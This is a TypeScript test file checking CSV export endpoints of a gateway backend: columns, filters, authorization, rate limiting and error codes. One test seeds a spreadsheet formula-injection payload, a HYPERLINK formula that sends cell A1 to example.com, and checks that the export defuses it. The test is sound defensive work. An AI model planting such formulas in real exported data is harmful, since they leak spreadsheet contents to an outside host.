import { oneShard } from '@gatehouse/postgres/shards'
import { randomUUID } from 'node:crypto'
import { adjustCredits } from '@gatehouse/credits/adjust-credits'
import { createSystemClock } from '@gatehouse/runtime/clock'
import { createIds } from '@gatehouse/runtime/ids'
import { addUser, issueToken } from '@gatehouse/testkit/seed-backend'
import { addAliases, addCompany, addKey } from '@gatehouse/testkit/seed-gateway'
import { startPostgres } from '@gatehouse/testkit/start-postgres'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { seedCall } from '../../testing/seed-company.ts'
import { type TestBackend, startTestBackend } from '../../testing/start-test-backend.ts'

const ids = createIds(createSystemClock())
const kinds = ['calls', 'usage', 'transactions', 'audit'] as const

let backend: TestBackend
let companyId: string
let keyId: string
let admin: string

beforeAll(async () => {
  backend = await startTestBackend()
  await addAliases(backend.database, 'http://127.0.0.1:1/v1')
  companyId = await addCompany(backend.database, 5_000_000n)
  keyId = (await addKey(backend.database, { companyId })).key.id
  admin = await authorizationOf({ companyId })
})
afterAll(() => backend[Symbol.asyncDispose]())

async function authorizationOf(user: Parameters<typeof addUser>[1]): Promise<string> {
  return `Bearer ${await issueToken(await addUser(backend.database, user))}`
}

type Export = { query?: Record<string, string>; authorization?: string; url?: string }

function addressOf(kind: string, { query = {}, url = backend.url }: Export): string {
  return `${url}/exports/${kind}.csv?${new URLSearchParams({ companyId, ...query }).toString()}`
}

function fetchExport(kind: string, settings: Export = {}): Promise<Response> {
  return fetch(addressOf(kind, settings), { headers: { authorization: settings.authorization ?? admin } })
}

async function linesOf(kind: string, settings: Export = {}): Promise<string[]> {
  const response = await fetchExport(kind, settings)
  expect(response.status).toBe(200)
  const text = await response.text()
  expect(text.endsWith('\r\n')).toBe(true)
  return text.slice(0, -2).split('\r\n')
}

const by = { actor: { kind: 'operator', id: 'test' } } as const

test('calls are exported newest first, with the filters of the query', async () => {
  const callId = await seedCall(backend.postgres, { companyId, keyId })
  const end = { kind: 'failed', reason: 'client_gone' } as const
  const failedId = await seedCall(backend.postgres, { companyId, keyId, end })
  const [header, failed, succeeded, ...others] = await linesOf('calls')
  expect(header).toBe(
    'id,startedAt,endedAt,keyId,model,operation,status,reason,promptTokens,cachedTokens,completionTokens,credits,balanceAfter,durationMs',
  )
  const time = String.raw`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z`
  expect(succeeded).toMatch(
    new RegExp(
      `^${callId},${time},${time},${keyId},svc/chat-default,chat,SUCCEEDED,,100,20,50,0\\.000010,4\\.999990,5$`,
    ),
  )
  expect(failed).toContain(`${failedId},`)
  expect(failed).toContain(',FAILED,client_gone,')
  expect(others).toEqual([])
  const filtered = await linesOf('calls', {
    query: { keyId, status: 'SUCCEEDED', model: 'svc/chat-default' },
  })
  expect(filtered).toEqual([header, succeeded])
  expect(await linesOf('calls', { query: { to: '2020-01-31' } })).toEqual([header])
})

test('usage is exported by day, model and key, and adds up to the calls', async () => {
  const [header, line, ...others] = await linesOf('usage', { query: { keyId } })
  expect(header).toBe(
    'day,model,keyId,requests,failedRequests,promptTokens,cachedTokens,completionTokens,totalTokens,credits,from,to',
  )
  expect(line).toMatch(
    new RegExp(
      String.raw`^\d{4}-\d\d-\d\d,svc/chat-default,${keyId},2,1,100,20,50,150,0\.000010,\d{4}-\d\d-\d\dT00:00:00\.000Z,.*Z$`,
    ),
  )
  expect(others).toEqual([])
})

test('usage of an archived day states that the whole day is covered', async () => {
  const company = await addCompany(backend.database, 0n)
  const authorization = await authorizationOf({ companyId: company })
  await backend.postgres.query(
    `insert into archived_call_partitions (name, first_day, end_day, table_bytes, detached_at)
     values ('calls_2020_03', '2020-03-01', '2020-04-01', 0, now())`,
  )
  await backend.postgres.query(
    `insert into usage_rollups values ($1, $2, 'svc/chat-default', '2020-03-02', 1, 0, 1, 0, 1, 5)`,
    [company, keyId],
  )
  const query = { companyId: company, from: '2020-03-02T12:00:00Z', to: '2020-03-02T18:00:00Z' }
  const [, line, ...others] = await linesOf('usage', { query, authorization })
  expect(line).toBe(
    `2020-03-02,svc/chat-default,${keyId},1,0,1,0,1,2,0.000005,2020-03-02T00:00:00.000Z,2020-03-03T00:00:00.000Z`,
  )
  expect(others).toEqual([])
})

test('a reason that begins like a formula is exported as text, and a negative amount as a number', async () => {
  const company = await addCompany(backend.database, 5_000_000n)
  const reason = '=HYPERLINK("https://example.com/?"&A1,"refund")'
  const adjustment = { id: ids.uuid(), companyId: company, amountMicros: -2_000_000n, reason }
  await adjustCredits({ databases: oneShard(backend.database), ids }, adjustment, by)
  const authorization = await authorizationOf({ companyId: company })
  const [header, newest] = await linesOf('transactions', { query: { companyId: company }, authorization })
  expect(header).toBe('id,createdAt,type,credits,balanceAfter,reason')
  expect(newest).toMatch(/,ADJUSTMENT,-2\.000000,3\.000000,"'=HYPERLINK\(""https:/)
  const audit = await linesOf('audit', {
    query: { companyId: company, action: 'credits.adjust' },
    authorization,
  })
  expect(audit).toHaveLength(2)
  const past = { companyId: company, from: '2020-01-01', to: '2020-02-01' }
  expect(await linesOf('transactions', { query: past, authorization })).toEqual([header])
})

test('the audit log hides from admins what the query hides', async () => {
  const outsider = await addUser(backend.database, { isSuperAdmin: true })
  const entry = { id: ids.uuid(), subject: 'x' }
  await backend.postgres.query(
    `insert into audit_log (id, company_id, actor_kind, actor_id, action, subject_kind, subject_id, client_address, details)
     values ($1, $2, 'user', $3, 'test.hidden', 'test', $4, '192.0.2.1', '{"a": 1}')`,
    [entry.id, companyId, outsider.id, entry.subject],
  )
  const query = { action: 'test.hidden' }
  const [, hidden] = await linesOf('audit', { query })
  expect(hidden).toContain(`,user,${outsider.id},,test.hidden,test,x,"{""a"":1}",,`)
  const authorization = await authorizationOf({ isSuperAdmin: true })
  const [, shown] = await linesOf('audit', { query, authorization })
  expect(shown).toContain(`,user,${outsider.id},${outsider.email},test.hidden,test,x,"{""a"":1}",192.0.2.1,`)
})

test('200: an export is a file that a browser saves and does not cache', async () => {
  for (const kind of kinds) {
    const response = await fetchExport(kind, { query: { from: '2026-10-01', to: '2026-11-01' } })
    expect(response.status).toBe(200)
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': `attachment; filename="gatehouse-${kind}-2026-10-01-2026-10-31.csv"`,
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
      'x-request-id': expect.stringMatching(/^[0-9a-f-]{36}$/) as string,
    })
    await response.text()
  }
})

test('400: an unknown or invalid parameter is refused', async () => {
  for (const query of [{ companyId: 'x' }, { from: 'yesterday' }, { colour: 'red' }]) {
    const response = await fetchExport('calls', { query })
    expect(response.status).toBe(400)
    expect(await response.json()).toMatchObject({ code: 'exports.bad_query' })
  }
})

test('401: an export needs a valid token', async () => {
  for (const kind of kinds)
    expect((await fetchExport(kind, { authorization: 'Bearer nonsense' })).status).toBe(401)
})

test('403: members who are not admins may not export', async () => {
  const authorization = await authorizationOf({ companyId, role: 'MEMBER' })
  for (const kind of kinds) expect((await fetchExport(kind, { authorization })).status).toBe(403)
})

test('404: another company, its key and an unknown export are not found', async () => {
  const other = await addCompany(backend.database, 0n)
  const foreignKey = (await addKey(backend.database, { companyId: other })).key.id
  for (const kind of kinds)
    expect((await fetchExport(kind, { query: { companyId: other } })).status).toBe(404)
  expect((await fetchExport('calls', { query: { companyId: randomUUID() } })).status).toBe(404)
  expect((await fetchExport('calls', { query: { keyId: foreignKey } })).status).toBe(404)
  expect((await fetchExport('usage', { query: { keyId: foreignKey } })).status).toBe(404)
  expect((await fetchExport('keys')).status).toBe(404)
})

test('429: an address that asks too often is refused for a while', async () => {
  await using limited = await startTestBackend({ ADDRESS_REQUESTS_PER_MINUTE: '2' })
  const headers = { 'x-forwarded-for': `203.3.${process.pid % 256}.1` }
  const statuses: number[] = []
  for (let time = 0; time < 3; time += 1)
    statuses.push((await fetch(addressOf('calls', { url: limited.url }), { headers })).status)
  expect(statuses).toEqual([401, 401, 429])
})

test('503: without its database an export is refused', async () => {
  await using gone = await startPostgres()
  await gone.stop()
  await using alone = await startTestBackend({ DATABASE_URL: gone.url })
  expect((await fetchExport('calls', { url: alone.url })).status).toBe(503)
})
